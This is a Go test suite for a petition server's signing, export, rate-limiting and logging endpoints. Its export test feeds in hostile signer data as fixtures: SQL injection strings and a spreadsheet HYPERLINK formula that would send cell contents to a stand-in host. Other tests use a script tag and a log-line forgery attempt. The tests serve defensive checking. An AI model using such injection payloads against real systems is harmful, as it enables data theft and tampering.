package server

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/time/rate"

	"github.com/faxjam/faxjam/pkg/campaign"
	"github.com/faxjam/faxjam/pkg/petition/store"
)

const (
	testCampaign = "norma-cruz-2012"
	testToken    = "export-token-0123456789"
)

func testCampaigns() []*campaign.Campaign {
	return []*campaign.Campaign{
		{ID: testCampaign, Title: "Stop the death threats. Defend Norma Cruz.", Languages: campaign.Languages{{Code: "es"}, {Code: "en"}}},
		{ID: "note-required", Title: "A campaign that wants a note", RequireNote: true},
	}
}

func openStore(t testing.TB) store.Store {
	t.Helper()
	st, err := store.OpenSQLite(context.Background(), filepath.Join(t.TempDir(), "petition.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}

// lockedBuffer is a log sink safe for the server's concurrent writes.
type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// start serves cfg on a loopback port until the test ends and returns the
// base URL. Missing Store and Campaigns are filled in.
func start(t testing.TB, cfg Config) string {
	t.Helper()
	if cfg.Store == nil {
		cfg.Store = openStore(t)
	}
	if cfg.Campaigns == nil {
		cfg.Campaigns = testCampaigns()
	}
	if cfg.Rate == 0 {
		cfg.Rate = rate.Inf
	}
	if cfg.MaxConnsPerAddr == 0 {
		cfg.MaxConnsPerAddr = -1 // the tests' clients all come from loopback
	}
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- s.Serve(ctx, ln) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("Serve: %v", err)
		}
	})
	return "http://" + ln.Addr().String()
}

type answer struct {
	status int
	header http.Header
	body   []byte
}

func (a answer) json(t *testing.T) map[string]any {
	t.Helper()
	var v map[string]any
	if err := json.Unmarshal(a.body, &v); err != nil {
		t.Fatalf("answer %d %q is not a JSON object: %v", a.status, a.body, err)
	}
	return v
}

func do(t testing.TB, method, url string, body string, header ...string) answer {
	t.Helper()
	req, err := http.NewRequest(method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, url, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return answer{resp.StatusCode, resp.Header, b}
}

func sigJSON(fields map[string]string) string {
	b, _ := json.Marshal(fields)
	return string(b)
}

func jose(key string) map[string]string {
	return map[string]string{"name": "José Pérez", "city": "Quetzaltenango", "country": "Guatemala", "email": "Jose@Example.org", "note": "Con Norma.", "key": key}
}

func with(m map[string]string, kv ...string) map[string]string {
	out := map[string]string{}
	for k, v := range m {
		out[k] = v
	}
	for i := 0; i+1 < len(kv); i += 2 {
		if kv[i+1] == "\x00delete" {
			delete(out, kv[i])
			continue
		}
		out[kv[i]] = kv[i+1]
	}
	return out
}

func TestSignAnswers(t *testing.T) {
	base := start(t, Config{Token: testToken})
	url := base + "/v1/campaigns/" + testCampaign + "/signatures"
	first := do(t, "POST", url, sigJSON(jose("k-1")))
	if first.status != http.StatusCreated {
		t.Fatalf("first signature: %d %s, want 201", first.status, first.body)
	}
	id, _ := first.json(t)["id"].(string)
	if id == "" {
		t.Fatalf("first signature answered no id: %s", first.body)
	}
	dup := func(body string) func(t *testing.T, a answer) {
		return func(t *testing.T, a answer) {
			v := a.json(t)
			if v["id"] != id || v["duplicate"] != true {
				t.Errorf("answer %s, want {id: %s, duplicate: true}", a.body, id)
			}
		}
	}
	big := strings.Repeat("x", MaxBody)
	tests := []struct {
		name      string
		method    string
		url       string
		body      string
		header    []string
		status    int
		errHas    string
		check     func(*testing.T, answer)
		notStored bool
	}{
		{name: "the same key again", body: sigJSON(jose("k-1")), status: 200, check: dup("")},
		{name: "the same person with another key", body: sigJSON(with(jose("k-2"), "name", "  JOSÉ   pérez ", "email", "")), status: 200, check: dup("")},
		{name: "the same email with another key", body: sigJSON(with(jose("k-3"), "name", "Pepe Pérez", "email", "jose@example.ORG")), status: 200, check: dup("")},
		{name: "another person", body: sigJSON(with(jose("k-4"), "name", "Norma Cruz", "email", "")), status: 201},
		{name: "campaign in the body matching the URL", body: sigJSON(with(jose("k-5"), "name", "Ana López", "email", "", "campaign", testCampaign)), status: 201},
		{name: "unknown campaign", url: base + "/v1/campaigns/no-such/signatures", body: sigJSON(jose("k-x")), status: 404, errHas: "unknown campaign"},
		{name: "empty name", body: sigJSON(with(jose("k-x"), "name", "")), status: 400, errHas: "name: required"},
		{name: "markup in the city", body: sigJSON(with(jose("k-x"), "city", "<script>")), status: 400, errHas: "city"},
		{name: "control character in the note", body: sigJSON(with(jose("k-x"), "note", "a\x07b")), status: 400, errHas: "note"},
		{name: "bad email", body: sigJSON(with(jose("k-x"), "email", "not-an-email")), status: 400, errHas: "email"},
		{name: "note required by the campaign", url: base + "/v1/campaigns/note-required/signatures", body: sigJSON(with(jose("k-x"), "note", "\x00delete")), status: 400, errHas: "note: required"},
		{name: "no key", body: sigJSON(with(jose(""), "key", "\x00delete")), status: 400, errHas: "key: required"},
		{name: "key with a space", body: sigJSON(jose("k x")), status: 400, errHas: "key"},
		{name: "unknown field", body: `{"name":"A","city":"B","country":"C","key":"k","admin":true}`, status: 400, errHas: `"admin": unknown field`},
		{name: "a lone surrogate in the note", body: `{"name":"Ana","city":"B","country":"C","key":"k-s","note":"hi \ud800"}`, status: 400, errHas: "note: contains a lone UTF-16 surrogate"},
		{name: "a number for a name", body: `{"name":7,"city":"B","country":"C","key":"k"}`, status: 400, errHas: "name: want a string"},
		{name: "not JSON", body: `name=José`, status: 400, errHas: "not valid JSON"},
		{name: "two objects", body: sigJSON(jose("k-x")) + sigJSON(jose("k-y")), status: 400, errHas: "one JSON object"},
		{name: "an array", body: `[]`, status: 400, errHas: "JSON object"},
		{name: "empty body", body: ``, status: 400, errHas: "empty"},
		{name: "form content type", body: sigJSON(jose("k-x")), header: []string{"Content-Type", "application/x-www-form-urlencoded"}, status: 415, errHas: "Content-Type"},
		{name: "campaign in the body not matching", body: sigJSON(with(jose("k-x"), "campaign", "other")), status: 400, errHas: "does not match"},
		{name: "body over 16 KB", body: sigJSON(with(jose("k-x"), "note", big)), status: 413, errHas: "larger than"},
		{name: "PUT", method: "PUT", body: sigJSON(jose("k-x")), status: 405, errHas: "not allowed"},
		{name: "DELETE on the campaign", method: "DELETE", url: base + "/v1/campaigns/" + testCampaign, status: 405, errHas: "not allowed"},
		{name: "unknown path", method: "GET", url: base + "/v2/x", status: 404, errHas: "not found"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			method, u := tt.method, tt.url
			if method == "" {
				method = "POST"
			}
			if u == "" {
				u = url
			}
			a := do(t, method, u, tt.body, tt.header...)
			if a.status != tt.status {
				t.Fatalf("%s %s: %d %s, want %d", method, u, a.status, a.body, tt.status)
			}
			if ct := a.header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
				t.Errorf("Content-Type %q, want JSON", ct)
			}
			if tt.errHas != "" {
				msg, _ := a.json(t)["error"].(string)
				if !strings.Contains(msg, tt.errHas) {
					t.Errorf("error %q, want it to contain %q", msg, tt.errHas)
				}
			}
			if tt.status == 405 && a.header.Get("Allow") == "" {
				t.Errorf("405 without an Allow header")
			}
			if tt.check != nil {
				tt.check(t, a)
			}
		})
	}
	info := do(t, "GET", base+"/v1/campaigns/"+testCampaign, "").json(t)
	if info["signatures"] != float64(3) || info["id"] != testCampaign || info["title"] == "" {
		t.Errorf("campaign after the table: %v, want 3 signatures (José, Norma, Ana)", info)
	}
}

func TestExport(t *testing.T) {
	base := start(t, Config{Token: testToken})
	url := base + "/v1/campaigns/" + testCampaign + "/signatures"
	hostile := []map[string]string{
		{"name": "Zoë O'Brien-Łukasiewicz", "city": "Saint-Jean-d'Angély", "country": "France", "email": "zoe@example.org", "note": `Robert'); DROP TABLE signatures;-- 100% "solidaridad" \ _ %`, "key": "k-1"},
		{"name": "محمد الأحمد", "city": "الرباط", "country": "المغرب", "note": "1 OR 1=1; SELECT * FROM users; =HYPERLINK(\"x\")", "key": "k-2"},
		{"name": "李小龙 Nguyễn", "city": "東京", "country": "日本", "key": "k-3"},
		// Formula injection (issue 8): a note and an e-mail a spreadsheet
		// would evaluate; normalization trims the note's leading tab.
		{"name": "Eve", "city": "Lima", "country": "Perú", "email": "-1+1@example.org", "note": "\t=HYPERLINK(\"http://x/?\"&A2,\"Click\")", "key": "k-4"},
	}
	for _, h := range hostile {
		if a := do(t, "POST", url, sigJSON(h)); a.status != 201 {
			t.Fatalf("POST %v: %d %s", h["name"], a.status, a.body)
		}
	}
	t.Run("refused without or with a wrong token", func(t *testing.T) {
		for _, hdr := range [][]string{nil, {"Authorization", "Bearer wrong-token-0123456789"}, {"Authorization", testToken}, {"Authorization", "Basic " + testToken}} {
			a := do(t, "GET", url, "", hdr...)
			if a.status != 401 || a.header.Get("WWW-Authenticate") == "" {
				t.Errorf("export with %q: %d (WWW-Authenticate %q), want 401 with a challenge", hdr, a.status, a.header.Get("WWW-Authenticate"))
			}
			if bytes.Contains(a.body, []byte("Zoë")) {
				t.Errorf("401 answer carries signatures: %s", a.body)
			}
		}
	})
	t.Run("JSON returns every field verbatim", func(t *testing.T) {
		a := do(t, "GET", url, "", "Authorization", "Bearer "+testToken)
		if a.status != 200 {
			t.Fatalf("export: %d %s", a.status, a.body)
		}
		var rows []map[string]any
		if err := json.Unmarshal(a.body, &rows); err != nil {
			t.Fatalf("export is not a JSON array: %v\n%s", err, a.body)
		}
		if len(rows) != len(hostile) {
			t.Fatalf("export has %d rows, want %d", len(rows), len(hostile))
		}
		for i, h := range hostile {
			for _, f := range []string{"name", "city", "country", "email", "note"} {
				got, _ := rows[i][f].(string)
				if got != strings.TrimSpace(h[f]) { // normalized: trimmed
					t.Errorf("row %d %s = %q, want %q", i, f, got, h[f])
				}
			}
			if rows[i]["id"] == "" || rows[i]["created"] == "" {
				t.Errorf("row %d lacks id or created: %v", i, rows[i])
			}
		}
	})
	t.Run("CSV by Accept", func(t *testing.T) {
		a := do(t, "GET", url, "", "Authorization", "Bearer "+testToken, "Accept", "text/csv")
		if a.status != 200 || !strings.HasPrefix(a.header.Get("Content-Type"), "text/csv") {
			t.Fatalf("CSV export: %d %q", a.status, a.header.Get("Content-Type"))
		}
		recs, err := csv.NewReader(bytes.NewReader(a.body)).ReadAll()
		if err != nil {
			t.Fatalf("CSV does not parse: %v", err)
		}
		if len(recs) != len(hostile)+1 || strings.Join(recs[0], ",") != "id,name,city,country,email,note,created" {
			t.Fatalf("CSV = %q", recs)
		}
		for i, h := range hostile[:3] {
			if recs[i+1][1] != h["name"] || recs[i+1][5] != h["note"] {
				t.Errorf("CSV row %d = %q, want name %q note %q", i, recs[i+1], h["name"], h["note"])
			}
		}
		if eve := recs[4]; eve[5] != `'=HYPERLINK("http://x/?"&A2,"Click")` || eve[4] != "'-1+1@example.org" {
			t.Errorf("CSV row of Eve = %q, want the note and e-mail behind a quote", eve)
		}
		raw := do(t, "GET", url+"?raw=1", "", "Authorization", "Bearer "+testToken, "Accept", "text/csv")
		recs, err = csv.NewReader(bytes.NewReader(raw.body)).ReadAll()
		if err != nil || len(recs) != 5 || recs[4][5] != `=HYPERLINK("http://x/?"&A2,"Click")` {
			t.Errorf("raw CSV = %q, %v; want values verbatim", recs, err)
		}
	})
	t.Run("empty campaign is an empty array", func(t *testing.T) {
		a := do(t, "GET", base+"/v1/campaigns/note-required/signatures", "", "Authorization", "Bearer "+testToken)
		if a.status != 200 || strings.TrimSpace(string(a.body)) != "[]" {
			t.Errorf("empty export: %d %q, want []", a.status, a.body)
		}
	})
}

func TestExportClosedWithoutToken(t *testing.T) {
	base := start(t, Config{})
	a := do(t, "GET", base+"/v1/campaigns/"+testCampaign+"/signatures", "", "Authorization", "Bearer ")
	if a.status != 401 || !strings.Contains(string(a.body), "without a token") {
		t.Errorf("export of a server without token: %d %s, want 401 saying so", a.status, a.body)
	}
}

func TestStoredNormalized(t *testing.T) {
	st := openStore(t)
	base := start(t, Config{Store: st})
	a := do(t, "POST", base+"/v1/campaigns/"+testCampaign+"/signatures", sigJSON(map[string]string{"name": "  Rene\u0301e   Dupont ", "city": "Montre\u0301al", "country": "Canada", "key": "k"}))
	if a.status != 201 {
		t.Fatalf("%d %s", a.status, a.body)
	}
	var got store.Signature
	st.Each(context.Background(), testCampaign, func(s store.Signature) error { got = s; return nil })
	if got.Name != "Ren\u00e9e Dupont" || got.City != "Montr\u00e9al" {
		t.Errorf("stored %q, %q; want NFC with spaces collapsed (letter.Normalize)", got.Name, got.City)
	}
}

func TestSignToken(t *testing.T) {
	base := start(t, Config{SignToken: "sign-token-0123456789"})
	url := base + "/v1/campaigns/" + testCampaign + "/signatures"
	if a := do(t, "POST", url, sigJSON(jose("k"))); a.status != 401 {
		t.Errorf("POST without the sign token: %d, want 401", a.status)
	}
	if a := do(t, "POST", url, sigJSON(jose("k")), "Authorization", "Bearer sign-token-0123456789"); a.status != 201 {
		t.Errorf("POST with the sign token: %d %s, want 201", a.status, a.body)
	}
}

func TestHealthz(t *testing.T) {
	base := start(t, Config{})
	a := do(t, "GET", base+"/healthz", "")
	if a.status != 200 || a.json(t)["status"] != "ok" {
		t.Errorf("healthz: %d %s", a.status, a.body)
	}
	if a := do(t, "POST", base+"/healthz", "{}"); a.status != 405 {
		t.Errorf("POST /healthz: %d, want 405", a.status)
	}
}

func TestRateLimitPerClient(t *testing.T) {
	base := start(t, Config{Rate: rate.Every(time.Hour), Burst: 2, TrustProxy: true})
	url := base + "/v1/campaigns/" + testCampaign
	for i := 0; i < 2; i++ {
		if a := do(t, "GET", url, "", "X-Forwarded-For", "203.0.113.7"); a.status != 200 {
			t.Fatalf("request %d within the burst: %d", i, a.status)
		}
	}
	a := do(t, "GET", url, "", "X-Forwarded-For", "203.0.113.7")
	if a.status != 429 {
		t.Fatalf("request over the burst: %d, want 429", a.status)
	}
	if ra := a.header.Get("Retry-After"); ra == "" || ra == "0" {
		t.Errorf("429 with Retry-After %q, want whole seconds >= 1", ra)
	}
	if msg, _ := a.json(t)["error"].(string); msg == "" {
		t.Errorf("429 without an error message")
	}
	if a := do(t, "GET", url, "", "X-Forwarded-For", "198.51.100.1, 203.0.113.8"); a.status != 200 {
		t.Errorf("another client: %d, want 200", a.status)
	}
	if a := do(t, "GET", base+"/healthz", "", "X-Forwarded-For", "203.0.113.7"); a.status != 200 {
		t.Errorf("healthz is not rate limited: %d", a.status)
	}
}

func TestLimiterStaysBounded(t *testing.T) {
	l := newLimiter(rate.Every(time.Hour), 1, 100)
	now := time.Now()
	for i := 0; i < 10000; i++ {
		ip := net.IPv4(10, byte(i>>16), byte(i>>8), byte(i)).String()
		if ok, _ := l.allow(ip, now); !ok {
			t.Fatalf("a new client %s was refused", ip)
		}
	}
	if n := l.size(); n > 100 {
		t.Errorf("limiter tracks %d clients, want at most 100", n)
	}
	// A client seen long ago has a full bucket again: evicting it is lossless.
	l = newLimiter(rate.Limit(1), 1, 2)
	l.allow("a", now)
	l.allow("b", now)
	l.allow("c", now.Add(time.Minute))
	if ok, _ := l.allow("c", now.Add(time.Minute)); ok {
		t.Errorf("client c got a second request within its burst of 1")
	}
}

func TestClientAddr(t *testing.T) {
	tests := []struct {
		remote, xff string
		trust       bool
		want        string
	}{
		{"192.0.2.1:5000", "", false, "192.0.2.1"},
		{"192.0.2.1:5000", "203.0.113.9", false, "192.0.2.1"},
		{"192.0.2.1:5000", "10.0.0.1, 203.0.113.9", true, "203.0.113.9"},
		{"[2001:db8:1:2:3:4:5:6]:443", "", false, "2001:db8:1:2::/64"},
		{"[2001:db8:1:2:ffff::1]:443", "", false, "2001:db8:1:2::/64"},
	}
	for _, tt := range tests {
		r, _ := http.NewRequest("GET", "/", nil)
		r.RemoteAddr = tt.remote
		if tt.xff != "" {
			r.Header.Set("X-Forwarded-For", tt.xff)
		}
		if got := clientAddr(r, tt.trust); got != tt.want {
			t.Errorf("clientAddr(%s, xff %q, trust %v) = %q, want %q", tt.remote, tt.xff, tt.trust, got, tt.want)
		}
	}
}

func TestConfigValidate(t *testing.T) {
	st := openStore(t)
	cs := testCampaigns()
	tests := []struct {
		name   string
		cfg    Config
		errHas string
	}{
		{"loopback without token", Config{Addr: "127.0.0.1:0", Store: st, Campaigns: cs}, ""},
		{"localhost without token", Config{Addr: "localhost:8080", Store: st, Campaigns: cs}, ""},
		{"IPv6 loopback without token", Config{Addr: "[::1]:8080", Store: st, Campaigns: cs}, ""},
		{"all interfaces without token", Config{Addr: ":8080", Store: st, Campaigns: cs}, "needs an export token"},
		{"0.0.0.0 without token", Config{Addr: "0.0.0.0:8080", Store: st, Campaigns: cs}, "needs an export token"},
		{"public address with token", Config{Addr: "0.0.0.0:8080", Store: st, Campaigns: cs, Token: testToken}, ""},
		{"short token", Config{Addr: "0.0.0.0:8080", Store: st, Campaigns: cs, Token: "short"}, "at least 16"},
		{"short sign token", Config{Store: st, Campaigns: cs, SignToken: "short"}, "sign token"},
		{"bad address", Config{Addr: "8080", Store: st, Campaigns: cs}, "host:port"},
		{"no store", Config{Campaigns: cs}, "no store"},
		{"no campaign", Config{Store: st}, "no campaign"},
		{"campaign twice", Config{Store: st, Campaigns: []*campaign.Campaign{cs[0], cs[0]}}, "given twice"},
		{"TLS cert without key", Config{Store: st, Campaigns: cs, TLSCert: "c.pem"}, "both"},
		{"ACME and a certificate file", Config{Store: st, Campaigns: cs, TLSCert: "c.pem", TLSKey: "k.pem",
			ACME: &ACME{Domains: []string{"fax.example.org"}, CacheDir: "acme"}}, "not both"},
		{"ACME without a cache folder", Config{Store: st, Campaigns: cs, ACME: &ACME{Domains: []string{"fax.example.org"}}}, "no folder"},
		{"ACME for an address", Config{Store: st, Campaigns: cs, ACME: &ACME{Domains: []string{"192.0.2.7"}, CacheDir: "acme"}}, "an address"},
		{"ACME for one label", Config{Store: st, Campaigns: cs, ACME: &ACME{Domains: []string{"localhost"}, CacheDir: "acme"}}, "full name"},
		{"ACME bad label", Config{Store: st, Campaigns: cs, ACME: &ACME{Domains: []string{"fax_1.example.org"}, CacheDir: "acme"}}, "label"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := tt.cfg.Validate()
			if tt.errHas == "" {
				if err != nil {
					t.Fatalf("Validate: %v", err)
				}
				if tt.cfg.Rate == 0 || tt.cfg.ReadTimeout == 0 || tt.cfg.Logger == nil {
					t.Errorf("Validate did not fill the defaults: %+v", tt.cfg)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tt.errHas) {
				t.Fatalf("Validate = %v, want an error containing %q", err, tt.errHas)
			}
		})
	}
}

func TestLogsOneLinePerRequestWithoutPersonalData(t *testing.T) {
	var log lockedBuffer
	base := start(t, Config{Logger: textLogger(t, &log), Token: testToken})
	url := base + "/v1/campaigns/" + testCampaign + "/signatures"
	do(t, "POST", url+"?email=jose@example.org", sigJSON(jose("k-secret-key")))
	do(t, "GET", url, "", "Authorization", "Bearer "+testToken)
	do(t, "GET", base+"/v1/campaigns/x%0Aforged%20line", "")
	lines := strings.Split(strings.TrimSpace(log.String()), "\n")
	if len(lines) != 3 {
		t.Fatalf("log has %d lines, want 3:\n%s", len(lines), log.String())
	}
	for _, want := range []string{" method=POST path=/v1/campaigns/{id}/signatures status=201 ", " method=GET path=/v1/campaigns/{id}/signatures status=200 ", " status=404 "} {
		if !strings.Contains(log.String(), want) {
			t.Errorf("log lacks %q:\n%s", want, log.String())
		}
	}
	for _, secret := range []string{"José", "Jose", "jose@", "Quetzaltenango", "k-secret-key", testToken, "Con Norma"} {
		if strings.Contains(log.String(), secret) {
			t.Errorf("log contains %q:\n%s", secret, log.String())
		}
	}
	if _, err := time.Parse(time.RFC3339, strings.TrimPrefix(strings.Fields(lines[0])[0], "time=")); err != nil {
		t.Errorf("log line %q does not start with an RFC 3339 time", lines[0])
	}
}

// TestTokenHoldersAreNotRateLimited: the organizer's dispatcher (sign
// token) and export (export token) come from one address with many
// requests; anonymous clients and wrong tokens stay limited.
func TestTokenHoldersAreNotRateLimited(t *testing.T) {
	const signToken = "sign-token-0123456789"
	tests := []struct {
		name      string
		method    string
		path      string
		token     string
		signToken string // the server's; "" for an open server
		wantOK    int    // status of a request within the limit
		limited   bool
	}{
		{name: "posts with the sign token", method: "POST", path: "/signatures", token: signToken, signToken: signToken, wantOK: 201},
		{name: "export with the export token", method: "GET", path: "/signatures", token: testToken, wantOK: 200},
		{name: "posts with the export token on an open server", method: "POST", path: "/signatures", token: testToken, wantOK: 201},
		{name: "anonymous posts are limited", method: "POST", path: "/signatures", wantOK: 201, limited: true},
		{name: "a wrong token is limited", method: "GET", path: "", token: "guess-guess-guess-guess", wantOK: 200, limited: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			base := start(t, Config{Token: testToken, SignToken: tt.signToken, Rate: rate.Every(time.Hour), Burst: 2})
			url := base + "/v1/campaigns/" + testCampaign + tt.path
			var header []string
			if tt.token != "" {
				header = []string{"Authorization", "Bearer " + tt.token}
			}
			refused := 0
			for i := range 30 {
				body := ""
				if tt.method == "POST" {
					body = sigJSON(map[string]string{"name": fmt.Sprintf("Signer %d", i), "city": "Quetzaltenango", "country": "Guatemala", "key": fmt.Sprintf("k%d", i)})
				}
				switch a := do(t, tt.method, url, body, header...); a.status {
				case tt.wantOK:
				case http.StatusTooManyRequests:
					refused++
				default:
					t.Fatalf("request %d: %d %s", i, a.status, a.body)
				}
			}
			if tt.limited && refused != 28 {
				t.Errorf("%d of 30 requests refused, want 28 (burst 2)", refused)
			}
			if !tt.limited && refused != 0 {
				t.Errorf("%d of 30 requests refused with a valid token, want none", refused)
			}
		})
	}
}

func TestDefaultRateLetsAnOfficeBehindOneAddressSign(t *testing.T) {
	cfg := Config{Store: openStore(t), Campaigns: testCampaigns()}
	if err := cfg.Validate(); err != nil {
		t.Fatal(err)
	}
	// 30 people behind one NAT answer an action call within the same
	// second: a page view and a signature each.
	l := newLimiter(cfg.Rate, cfg.Burst, cfg.MaxClients)
	now := time.Now()
	for i := range 60 {
		if ok, _ := l.allow("192.0.2.1", now); !ok {
			t.Fatalf("request %d of an office's 60 in one second refused (rate %v, burst %d)", i+1, cfg.Rate, cfg.Burst)
		}
	}
	// A flood from one address is still held to the rate.
	allowed := 0
	for i := range 1000 {
		if ok, _ := l.allow("192.0.2.1", now.Add(time.Duration(i)*time.Millisecond)); ok {
			allowed++
		}
	}
	if allowed > 25 {
		t.Errorf("a flood of 1000 requests in 1 s got %d through, want about %v", allowed, cfg.Rate)
	}
}

// textLogger is NewLogger's text log to w.
func textLogger(t testing.TB, w io.Writer) *slog.Logger {
	t.Helper()
	l, err := NewLogger(w, "text", nil)
	if err != nil {
		t.Fatal(err)
	}
	return l
}
